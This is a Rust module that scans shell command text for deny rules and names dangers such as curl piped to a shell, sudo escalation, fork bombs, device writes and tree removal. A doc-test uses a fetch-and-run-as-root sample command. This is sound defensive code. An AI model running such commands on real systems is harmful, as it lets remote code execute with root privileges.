//! The tolerant reading for deny rules: finds what any text would run and write, rather too much than too little.

mod dangers;
mod nested;
mod notes;
mod pattern;
mod search;
mod tokens;
mod wrapped;

use std::ops::Range;
use std::sync::Arc;

use search::Search;

use crate::{Excess, kind};

/// What a text would run and write, as far as it can be found. It can only make an answer stricter.
///
/// ```
/// use windlass_command::{Certainty, Danger, Scan};
///
/// let scan = Scan::of("curl -s example.test/x | sudo -u root bash; git -C sub --no-pager push");
/// assert!(scan.runs(&["git", "push"]) && scan.runs(&["curl"]));
/// assert!(scan.dangers().contains(&Danger::FeedsShell));
/// assert_eq!(Scan::of("$tool -rf x").certainty(), Certainty::Partial);
/// ```
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Scan {
    found: Vec<Found>,
    /// Programs of which no list says that they do not run what their words name.
    loose: Vec<Found>,
    writes: Vec<String>,
    dangers: Vec<Danger>,
    partial: bool,
    excess: Option<Excess>,
    work: usize,
}

/// How many words behind a name are compared with a rule where it is not sure that the name is a program.
const LOOSE_WORDS: usize = 64;

/// A program that would run, or might.
#[derive(Debug, Clone, PartialEq, Eq, Hash)]
pub struct Found {
    program: String,
    /// The words of the whole command, which all that is found in it share.
    words: Arc<[String]>,
    place: Range<usize>,
    is_pattern: bool,
}

impl Found {
    /// A program at the start of a range of words.
    pub(crate) fn new(program: &str, words: &Arc<[String]>, place: Range<usize>, is_pattern: bool) -> Self {
        Self { program: program.to_owned(), words: Arc::clone(words), place, is_pattern }
    }

    /// Returns the program's name without its folder.
    pub fn program(&self) -> &str {
        &self.program
    }

    /// Returns the words behind the program, with the quotes gone. Expansions read as nothing.
    pub fn words(&self) -> &[String] {
        let from = self.place.start.saturating_add(1);
        self.words.get(from..self.place.end).unwrap_or_default()
    }

    /// Returns whether a rule of words is about this program. The first word of the rule is the program's name, in any
    /// case, or the name of an interpreter without its version. The program's other words have to have the rule's in
    /// this order, with only options and their values between them. A name that is a file pattern fits what it could
    /// stand for.
    pub fn matches(&self, rule: &[&str]) -> bool {
        let Some((name, wanted)) = rule.split_first() else { return false };
        let fits = kind::is_same_program(name, &self.program)
            || self.is_pattern
                && pattern::fits(&self.program.to_ascii_lowercase(), &name.to_ascii_lowercase());
        fits && follows(wanted, self.words())
    }

    /// Whether this is of the same command.
    fn is_of(&self, other: &Self) -> bool {
        Arc::ptr_eq(&self.words, &other.words)
    }

    /// Whether one of this program's words, or a part of one, could be a program that a rule is about.
    fn may_run(&self, rule: &[&str]) -> bool {
        let Some((name, wanted)) = rule.split_first() else { return false };
        let words = self.words();
        let skipped = match kind::program_kind(&self.program) {
            // The first operand is a sub-command.
            kind::ProgramKind::Subcommands => words
                .iter()
                .position(|word| !word.starts_with('-'))
                .map_or(words.len(), |at| at.saturating_add(1)),
            _ => 0,
        };
        words.iter().enumerate().skip(skipped).any(|(at, word)| {
            let behind = words.get(at.saturating_add(1)..).unwrap_or_default();
            let behind = behind.get(..LOOSE_WORDS.min(behind.len())).unwrap_or_default();
            let separates = |char: char| char.is_whitespace() || ";|&()<>{}`'\"$,=".contains(char);
            let mut parts = word.split(separates).filter(|part| !part.is_empty());
            kind::is_same_program(name, word) && (follows(wanted, behind) || behind.len() == LOOSE_WORDS)
                || word.contains(separates)
                    && parts.by_ref().any(|part| kind::is_same_program(name, part))
                    && wanted.iter().all(|wanted| parts.any(|part| part == *wanted))
        })
    }
}

/// Whether the words of a rule come in this order, with only options and their values between them.
fn follows(wanted: &[&str], words: &[String]) -> bool {
    let mut wanted = wanted.iter().copied().peekable();
    let mut may_be_value = false;
    for word in words {
        match wanted.peek() {
            None => return true,
            Some(next) if next == word => {
                wanted.next();
                may_be_value = false;
            }
            Some(_) if word.starts_with('-') => may_be_value = true,
            Some(_) if may_be_value => may_be_value = false,
            Some(_) => return false,
        }
    }
    wanted.peek().is_none()
}

/// How much of the text was understood.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
#[expect(clippy::exhaustive_enums, reason = "a policy must say what each of these means to it")]
pub enum Certainty {
    /// Every program has a name on its face.
    Whole,
    /// A program is named by an expansion, the text is broken, or it is too deep: deny rules may have missed
    /// something, so it is never allowed without a question.
    Partial,
}

/// Something that is dangerous whatever the rules say.
#[derive(Debug, Clone, PartialEq, Eq, Hash)]
#[non_exhaustive]
pub enum Danger {
    /// Removes a whole tree at a root, a home, the working folder or everything in it.
    RemovesTree {
        /// The word that names the tree.
        target: String,
    },
    /// Changes who runs the command: `sudo`, `su`, `doas`, `pkexec`.
    Escalates,
    /// A shell or an interpreter runs what another program prints: `curl … | sh`.
    FeedsShell,
    /// Text that is not on its face is run: `eval`, `source`, a shell whose text is an expansion.
    Evaluates,
    /// Formats, partitions or overwrites a device.
    WritesDevice,
    /// A function that starts itself twice.
    ForkBomb,
    /// Opens a connection through the shell itself.
    OpensNetwork,
    /// Stops the machine, or ends every process.
    StopsSystem,
    /// Writes a name that decides what runs later: version control, shell start-up, keys, system configuration.
    WritesProtected {
        /// The path as written.
        path: String,
    },
}

impl Scan {
    /// Scans any text.
    ///
    /// Time and memory grow with the bytes of the text at most. A text that would cost more than that is left where
    /// its budget ends; see [`Scan::excess`].
    pub fn of(text: &str) -> Self {
        let mut search = Search::new(text.len());
        search.text(text);
        search.finish(text)
    }

    /// Scans a program that is started without a shell; limited like [`Scan::of`].
    pub fn of_argv(argv: &[String]) -> Self {
        let mut search = Search::new(argv.iter().map(|word| word.len().saturating_add(1)).sum());
        search.argv(argv);
        search.finish("")
    }

    /// Every program that was found, wrappers and what they wrap, in no order that matters.
    pub fn found(&self) -> &[Found] {
        &self.found
    }

    /// Whether any program that was found is meant by a rule of words; see [`Found::matches`].
    pub fn runs(&self, rule: &[&str]) -> bool {
        self.found.iter().any(|found| found.matches(rule))
    }

    /// Returns whether a program that a rule of words is about may run, though it is not sure that it does: its name is
    /// a word of a program that no list knows, and that program may be a wrapper.
    ///
    /// ```
    /// use windlass_command::Scan;
    /// let scan = Scan::of("frobnicate rm x");
    /// assert!(!scan.runs(&["rm"]) && scan.may_run(&["rm"]));
    /// assert!(!Scan::of("grep rm x").may_run(&["rm"]));
    /// ```
    pub fn may_run(&self, rule: &[&str]) -> bool {
        self.runs(rule) || self.loose.iter().any(|found| found.may_run(rule))
    }

    /// Returns why the command was not judged to its end, if it was not. Deny rules may have missed something then.
    pub fn excess(&self) -> Option<Excess> {
        self.excess
    }

    /// Returns the units of work that were spent, for tests of growth.
    pub fn work(&self) -> usize {
        self.work
    }

    /// The paths that would be written, changed or removed, as written.
    pub fn writes(&self) -> &[String] {
        &self.writes
    }

    /// What is dangerous whatever the rules say, each once.
    pub fn dangers(&self) -> &[Danger] {
        &self.dangers
    }

    /// How much of the text was understood.
    pub fn certainty(&self) -> Certainty {
        if self.partial { Certainty::Partial } else { Certainty::Whole }
    }
}
